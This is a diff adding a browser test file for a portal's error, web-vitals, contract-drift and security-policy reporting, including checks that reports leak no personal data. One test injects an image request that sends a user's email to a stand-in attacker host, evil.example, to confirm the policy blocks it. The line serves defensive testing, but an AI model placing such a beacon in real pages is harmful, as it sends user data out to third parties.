@@ -1,0 +1,130 @@
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import type { Browser } from 'playwright';
+import { browserArgs } from '../../scripts/lib/browser.mjs';
+import { dist } from '../../scripts/lib/root.mjs';
+import { mockBackend } from '../../scripts/serve/mockBackend.ts';
+import { servePortal, type RunningPortal } from '../../scripts/serve/servePortal.ts';
+import { launchBrowser, openVisit } from '../support/browser.ts';
+import { enterAs } from '../support/people.ts';
+
+const lines: string[] = [];
+let portal: RunningPortal;
+let browser: Browser;
+
+beforeAll(async () => {
+  const write = (line: string) => void lines.push(line);
+  portal = await servePortal({ dist, backend: mockBackend(), port: 0, reports: { forwardTo: null, write } });
+  // Chromium keeps reports of violations for a minute, and sends none without its background calls.
+  const quiet = '--disable-background-networking';
+  browser = await launchBrowser({
+    args: [...browserArgs.filter((arg) => arg !== quiet), '--short-reporting-delay'],
+    ignoreDefaultArgs: [quiet],
+  });
+});
+beforeEach(() => void (lines.length = 0));
+afterAll(async () => {
+  await browser.close();
+  await portal.close();
+});
+
+interface Report {
+  kind: string;
+  message: string;
+  route: string;
+  release: string;
+  browser: string;
+  value?: number;
+}
+
+function reports(): Report[] {
+  return lines.map((line): Report => JSON.parse(line.replace(/^report /, '')));
+}
+
+/** Opens a page as a member and waits until the module that sends reports has loaded. */
+async function openAs(path: string, expected: RegExp[] = []) {
+  const page = await openVisit(browser, { name: 'reporter', expected });
+  await enterAs(page, 'member', portal.address);
+  const loaded = page.waitForResponse(/\/assets\/reports-[^/]+\.js$/);
+  await page.goto(portal.address + path);
+  await loaded;
+  return page;
+}
+
+test('errors are reported once each, ten of a page load at most, and name nobody', async () => {
+  const page = await openAs('/perfil', [/forjado/, /Uncaught/]);
+  const name = (await page.getByRole('heading', { level: 1 }).innerText()).replace(/^Olá, /, '').replace(/!$/, '');
+  const token = await page.evaluate(() => localStorage.getItem('token'));
+  const hostile = `forjado ${name} ativa@exemplo.com.br ${token} 123.456.789-09 /curso/12?token=abc`;
+  await page.evaluate((text) => {
+    for (let at = 0; at < 3; at += 1)
+      setTimeout(() => {
+        throw new TypeError(text);
+      });
+    void Promise.reject(new Error(text));
+    for (let at = 0; at < 20; at += 1) void Promise.reject(new Error(`forjado ${'x'.repeat(at)}`));
+  }, hostile);
+  await expect.poll(() => reports().length).toBeGreaterThanOrEqual(7);
+  await page.goto(`${portal.address}/healthz`);
+  await expect.poll(() => reports().some(({ kind }) => kind === 'vital')).toBe(true);
+  await page.waitForTimeout(300);
+  expect(reports().length).toBeLessThanOrEqual(10);
+  const [first] = reports();
+  expect(first).toMatchObject({ kind: 'error', route: '/perfil', release: expect.stringMatching(/^[\w.+-]+$/) });
+  expect(first?.browser).toContain('Chrom');
+  expect(reports().filter(({ kind, message }) => kind === 'error' && message === first?.message)).toHaveLength(1);
+  const said = lines.join('\n');
+  for (const secret of [name, String(token), 'ativa@', '123.456', 'token=', '/curso/12'])
+    expect([secret, said.includes(secret)]).toEqual([secret, false]);
+});
+
+test('the paint, the shift and the answer to a click are reported by the pattern of the route', async () => {
+  const page = await openAs('/curso/1');
+  await page.getByRole('heading', { name: 'Módulos' }).click();
+  await page.goto(`${portal.address}/healthz`);
+  await expect.poll(() => reports().map(({ message }) => message)).toEqual(expect.arrayContaining(['LCP', 'CLS']));
+  for (const { kind, route, value } of reports()) {
+    expect([kind, route]).toEqual(['vital', '/curso/:cursoId']);
+    expect(value).toBeGreaterThanOrEqual(0);
+  }
+});
+
+test('an answer that differs from the contract is reported without its content', async () => {
+  const page = await openVisit(browser, { name: 'drifter' });
+  await enterAs(page, 'member', portal.address);
+  await page.route('**/api/fundos', (route) =>
+    route.fulfill({ json: { fundos: [{ id: 1, type: 'Raiz Secreta', amount: 'segredo' }] } }),
+  );
+  await page.goto(`${portal.address}/perfil/fundos`);
+  await expect.poll(() => reports().map(({ kind }) => kind)).toContain('drift');
+  const [drift] = reports();
+  expect(drift?.message).toContain('GET /fundos');
+  expect(lines.join()).not.toMatch(/segredo|Secreta/);
+});
+
+test('a violation of the policy is reported by the browser, without the query', async () => {
+  const page = await openAs('/curso/1?token=abc', [/Content Security Policy/, /violates/]);
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/x.png?who=ana@exemplo.com.br';
+  });
+  await expect.poll(() => reports().map(({ kind }) => kind), { timeout: 20_000 }).toContain('policy');
+  const policy = lines.find((line) => line.includes('"policy"'));
+  expect(policy).toContain('img-src');
+  expect(policy).not.toMatch(/token=|ana@|\/curso\/1\b/);
+});
+
+test('without a receiver the portal works, and nothing is sent again', async () => {
+  const page = await openVisit(browser, { name: 'nobody', expected: [/forjado/, /Failed to load resource/] });
+  let asked = 0;
+  await page.route('**/reports', (route) => {
+    asked += 1;
+    return route.fulfill({ status: 502 });
+  });
+  const loaded = page.waitForResponse(/\/assets\/reports-[^/]+\.js$/);
+  await page.goto(`${portal.address}/login`);
+  await loaded;
+  await page.evaluate(() => void Promise.reject(new Error('forjado')));
+  await expect.poll(() => asked).toBe(1);
+  await page.waitForTimeout(1500);
+  expect(asked).toBe(1);
+  expect(await page.getByLabel('E-mail', { exact: true }).isEnabled()).toBe(true);
+});
